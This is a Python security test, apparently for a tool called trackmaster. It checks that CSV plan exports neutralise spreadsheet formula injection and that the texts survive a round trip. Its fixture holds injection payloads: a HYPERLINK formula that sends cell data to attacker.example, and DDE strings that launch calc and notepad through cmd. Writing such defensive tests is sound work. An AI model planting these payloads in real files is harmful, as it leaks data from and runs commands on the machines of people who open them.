"""Issue 15, finding 9: a plan exported as CSV cannot run formulas in a spreadsheet.

Plan texts come from Jet or uploads, so anyone who writes a story controls
cells of the export. Over real HTTP against a `trackmaster serve` process:
import a plan whose texts are formulas, export it as CSV, and no cell may start
with a character a spreadsheet evaluates; importing the export gives back the
same texts.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx

from tests.support.process_server import server_process

FORMULAS = {
    "story_description": '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "event": "@SUM(1+1)*cmd|' /C calc'!A0",
    "event_description": "+cmd|' /C notepad'!A0",
    "field": "-2+3+cmd|' /C calc'!A0",
    "note": "\t=1+1",
    "values": "=1+1|@x",
}
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _plan_csv() -> str:
    out = io.StringIO()
    writer = csv.DictWriter(
        out,
        ["story", "story_description", "event", "event_description", "field", "type", "values",
         "note"],
        lineterminator="\n",
    )  # fmt: skip
    writer.writeheader()
    writer.writerow({"story": "Checkout", "type": "", **FORMULAS})
    writer.writerow({"story": "Checkout", "event": "plain_event", "field": "a.b", "type": ""})
    return out.getvalue()


def test_csv_export_neutralises_formula_cells(tmp_path: Path) -> None:
    plan_file = tmp_path / "formulas.csv"
    plan_file.write_text(_plan_csv())
    with server_process(tmp_path) as server:
        server.cli("import-plan", str(plan_file), "--project", "formulas", "--create")
        token = server.cli("create-token", "ada", "--name", "csv").strip()
        auth = {"Authorization": f"Bearer {token}"}
        with httpx.Client(base_url=server.url, timeout=30, headers=auth) as http:
            [(project_id,)] = server.sql("SELECT id FROM project WHERE name = 'formulas'")
            imported = http.put(
                f"/api/v3/projects/{project_id}/plan?format=csv", content=_plan_csv().encode()
            )
            assert imported.status_code == 200, imported.text
            exported = http.get(f"/api/v3/projects/{project_id}/plan?format=csv")
            assert exported.status_code == 200
            rows = list(csv.DictReader(io.StringIO(exported.text)))
            cells = [cell for row in rows for cell in row.values() if cell]
            assert any("HYPERLINK" in cell for cell in cells), exported.text
            dangerous = [cell for cell in cells if cell.startswith(DANGEROUS_STARTS)]
            assert dangerous == [], f"formula cells in the export: {dangerous}"

            # The export imports back to the same texts (the quote is undone).
            again = http.put(
                f"/api/v3/projects/{project_id}/plan?format=csv", content=exported.content
            )
            assert again.status_code == 200, again.text
            assert again.json()["data"]["status"] == "ok"
            [(description,)] = server.sql("SELECT description FROM story WHERE name = 'Checkout'")
            assert description == FORMULAS["story_description"]
            assert http.get(f"/api/v3/projects/{project_id}/plan?format=csv").text == exported.text
